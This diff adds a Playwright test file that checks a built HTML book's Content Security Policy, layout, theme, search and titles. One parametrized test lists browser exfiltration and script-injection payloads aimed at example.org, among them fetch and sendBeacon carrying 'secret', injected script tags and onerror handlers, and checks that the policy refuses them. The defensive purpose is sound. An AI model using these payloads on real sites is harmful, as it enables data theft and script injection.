@@ -1,0 +1,107 @@
+"""The shell of the pages in a real browser: nothing leaves, nothing foreign runs, and it reads without scripts."""
+
+from pathlib import Path
+
+import pytest
+
+BOOK = Path(__file__).parents[2] / "_build" / "html"
+VIOLATIONS = """window.refused = [];
+document.addEventListener("securitypolicyviolation", (one) =>
+    window.refused.push(one.violatedDirective + " " + one.blockedURI));"""
+
+
+def pages_of(folder: Path) -> list[Path]:
+    """All pages of a built book."""
+    return sorted(path for path in folder.rglob("*.html") if "_static" not in path.parts)
+
+
+@pytest.fixture(params=["small", "real"])
+def built(request, html) -> Path:
+    """The mill's book, and the real one where it is built."""
+    if request.param == "real" and not (BOOK / "index.html").is_file():
+        pytest.skip("the book is not built; 'make book' does")
+    return BOOK if request.param == "real" else html
+
+
+def test_every_page_stays_within_its_policy(browser, built):
+    context = browser.new_context()
+    context.add_init_script(VIOLATIONS)
+    tab = context.new_page()
+    asked, faults, said = [], [], []
+    tab.on("request", lambda request: asked.append(request.url))
+    tab.on("requestfailed", lambda request: faults.append(f"failed {request.url}")
+           if request.failure != "net::ERR_ABORTED" else None)  # the next page came before this one's picture
+    tab.on("pageerror", lambda error: faults.append(str(error)))
+    tab.on("console", lambda line: said.append(line.text) if line.type == "error" else None)
+    for page in pages_of(built):
+        tab.goto(page.as_uri())
+        assert tab.evaluate("window.refused") == [], page
+        assert tab.locator("meta[http-equiv=Content-Security-Policy]").count() == 1, page
+    context.close()
+    assert [url for url in asked if not url.startswith(built.as_uri())] == [] and faults == [] and said == []
+
+
+@pytest.mark.parametrize("attempt", [
+    "fetch('https://example.org/?q=secret')", "new Image().src = 'https://example.org/x.png'",
+    "navigator.sendBeacon('https://example.org/x', 'secret')", "new WebSocket('wss://example.org/x')",
+    "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://example.org></iframe>')",
+    "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=document.title=1>')",
+    "document.body.insertAdjacentHTML('beforeend', '<p style=background:url(https://example.org/x.png)>x</p>')",
+    "document.body.append(Object.assign(document.createElement('script'), {text: 'document.title = 1'}))",
+    "document.body.append(Object.assign(document.createElement('script'), {src: 'https://example.org/x.js'}))",
+    "document.head.append(Object.assign(document.createElement('base'), {href: 'https://example.org/'}))",
+    "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'https://x.org/x.css'}))",
+])
+def test_what_would_leave_or_run_is_refused(browser, html, attempt):
+    context, left = browser.new_context(), []
+    context.route("http*://**", lambda route: (left.append(route.request.url), route.abort()))
+    tab = context.new_page()
+    tab.goto((html / "chapters/index.html").as_uri())
+    tab.evaluate(VIOLATIONS)
+    tab.evaluate(f"(() => {{ try {{ {attempt} }} catch {{ }} }})()")
+    tab.wait_for_function("window.refused.length > 0", timeout=3000)
+    assert tab.title() != "1" and left == []
+    context.close()
+
+
+def test_side_bar_opens_over_a_phone_and_stands_on_a_desk(visit, width):
+    for scripts in (True, False):
+        tab = visit("chapters/register", java_script_enabled=scripts)
+        contents = tab.locator("#bd-contents")
+        assert contents.is_visible() == (width > 600)
+        if width < 600:
+            tab.click(".shell-menu")
+            assert contents.is_visible()
+            tab.keyboard.press("Escape")
+            contents.wait_for(state="hidden", timeout=3000)
+
+
+def test_colours_follow_the_system_and_the_choice_is_kept(visit):
+    tab = visit("chapters/index", color_scheme="dark")
+    theme = "[document.documentElement.dataset.mode, document.documentElement.dataset.theme].join()"
+    assert tab.evaluate(theme) == "auto,dark"
+    tab.click(".shell-theme")
+    tab.reload()
+    assert tab.evaluate(theme) == "light,light"
+
+
+def test_search_ranks_what_is_read_over_the_evidence(visit, html):
+    tab = visit("search")
+    tab.goto((html / "search.html").as_uri() + "?q=mill")
+    tab.wait_for_selector("#search-results ul.search li")
+    links = "all => all.map(one => one.getAttribute('href'))"
+    found = tab.eval_on_selector_all("#search-results li > a:first-child", links)
+    first_evidence = min((place for place, link in enumerate(found) if "evidence/" in link), default=len(found))
+    assert "chapters/index.html" in found[0] and first_evidence > 0
+
+
+def test_title_and_side_bar_say_the_same(visit):
+    if not (BOOK / "index.html").is_file():
+        pytest.skip("the book is not built; 'make book' does")
+    tab = visit("chapters/index")
+    for page in pages_of(BOOK / "chapters"):
+        tab.goto(page.as_uri())
+        here = tab.locator("#bd-contents [aria-current=page]")
+        if here.count():
+            assert tab.title().partition(" — ")[0] == here.text_content() == tab.locator("h1").first.evaluate(
+                "node => node.firstChild.textContent"), page
